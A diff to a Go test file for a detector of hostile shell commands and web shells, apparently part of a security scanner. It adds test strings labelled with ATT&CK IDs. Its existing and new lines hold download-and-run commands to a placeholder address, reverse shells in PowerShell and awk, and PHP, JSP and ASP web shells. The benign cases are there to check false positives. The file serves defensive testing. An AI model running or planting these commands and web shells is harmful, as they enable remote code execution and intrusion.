@@ -102,6 +102,7 @@ func TestShellFamilies(t *testing.T) {
 		{"command string", sh + " -c \"$(" + wget + " -qO- http://" + address + "/x.sh)\"", "pipe-to-shell", "T1059.004"},
 		{"in JSON", `{"cmd": "` + curl + ` http://` + address + `/x ` + pipe + `"}`, "pipe-to-shell", "T1059.004"},
 		{"download", wget + " http://" + address + "/x -O /tmp/x; chm" + "od +x /tmp/x; /tmp/x", "download-and-run", "T1105"},
+		{"download to a hidden file", curl + " -s http://" + address + "/x -o /tmp/.a && " + sh + " /tmp/.a", "download-and-run", "T1105"},
 		{"encoded", "echo " + encoded + "|base" + "64 -d|python3", "encoded-command", "T1027.010"},
 		{"what it encodes", "echo " + encoded + "|base" + "64 -d|python3", "reverse-shell", "T1059.004"},
 		{"encoded in python", "python -c \"exec(__import__('base64').b64" + "decode('" + encoded + "'))\"", "encoded-command", "T1027.010"},
@@ -118,6 +119,8 @@ func TestShellFamilies(t *testing.T) {
 		{"powershell", "$c = New-Object System.Net.Sock" + "ets.TCPClient('" + address + "',4242);$s = $c.GetStream()", "reverse-shell", "T1059.004"},
 		{"awk", "awk 'BEGIN{s=\"/inet" + "/tcp/0/" + address + "/9001\";while(s|&getline c)print c}'", "reverse-shell", "T1059.004"},
 
+		{"a build's own file", "make -C /tmp/b && " + sh + " /tmp/b/run", "", ""},
+		{"another file", curl + " -s https://get.synthetic.test/x -o /tmp/.a && " + sh + " /tmp/.b", "", ""},
 		{"installation guide", "use " + curl + " -fsSL https://get.synthetic.test/install.sh to install", "", ""},
 		{"installation guide with a pipe", "To install, run " + curl + " -fsSL https://get.synthetic.test/install.sh " + pipe + " and follow the steps", "", ""},
 		{"installation command in JSON", `{"install": "` + curl + ` -fsSL https://get.synthetic.test/install.sh ` + pipe + `"}`, "", ""},
@@ -160,6 +163,7 @@ func TestWebShellFamily(t *testing.T) {
 		{"function by name", php + "$_G" + "ET['f']($_POST['a']);", "web-shell", "T1505.003"},
 		{"packed", php + "ev" + "al(gzin" + "flate(base64_decode('7b0HYBx'))); ?" + ">", "web-shell", "T1505.003"},
 		{"writes", php + "file_put" + "_contents($_GET['n'], $_POST['d']);", "web-shell", "T1505.003"},
+		{"by a variable", php + "$c=base64" + "_decode($_POST['x']); @ev" + "al($c);", "web-shell", "T1505.003"},
 		{"backticks", php + "echo `$_G" + "ET[c]`; ?" + ">", "web-shell", "T1505.003"},
 		{"jsp", jsp + "@page import=\"java.util.*\"%" + ">" + jsp + "Runtime.getRun" + "time().exec(request.getParameter(\"i\"));%" + ">", "web-shell", "T1505.003"},
 		{"asp", jsp + "ev" + "al request(\"x\")%" + ">", "web-shell", "T1505.003"},
@@ -169,6 +173,7 @@ func TestWebShellFamily(t *testing.T) {
 		{"form", php + "echo htmlspecialchars($_POST['name']); ?" + ">", "", ""},
 		{"query", php + "$db->exec('x'); $n = $_GET['n']; ?" + ">", "", ""},
 		{"prepared", php + "$stmt->execute([$_POST['a']]); ?" + ">", "", ""},
+		{"kept in a variable", php + "$n = $_POST['n']; system('uptime'); echo $n; ?" + ">", "", ""},
 		{"about it", "never pass $_GET[x] to eval()", "", ""},
 		{"java source", "Runtime.getRun" + "time().exec(\"ls\");", "", ""},
 	})
